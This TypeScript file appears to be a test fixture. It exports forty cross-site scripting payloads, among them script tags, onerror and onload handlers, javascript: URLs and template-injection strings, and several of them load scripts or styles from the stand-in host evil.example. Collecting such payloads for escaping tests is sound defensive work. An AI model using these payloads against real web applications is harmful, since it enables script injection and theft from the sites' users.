/** Forty texts that become code where someone forgets that they are text. Each calls `alert` or sets `window.owned`. At most 100 characters. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>', '<script src=//evil.example/x.js></script>', '</title><script>window.owned=1</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script\u00a0x>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="window.owned=1">', '<img/src=x/onerror=alert(1)>', '<IMG SRC=javascript:alert(1)>', '<img src=x:x onerror=alert`1`>',
  '"><svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg/onload=window.owned=1>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>parent.alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<base href=//evil.example/>',
  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<a href=javascript:alert(1)>click</a>', '<form action=javascript:alert(1)><button>x', '<style>@import"//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '" onmouseover="alert(1)" x="', "' onfocus='alert(1)' autofocus='", '`onclick=alert(1)`',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e', '&lt;script&gt;alert(1)&lt;/script&gt;', '--><!--<img src=x onerror=alert(1)>',
];
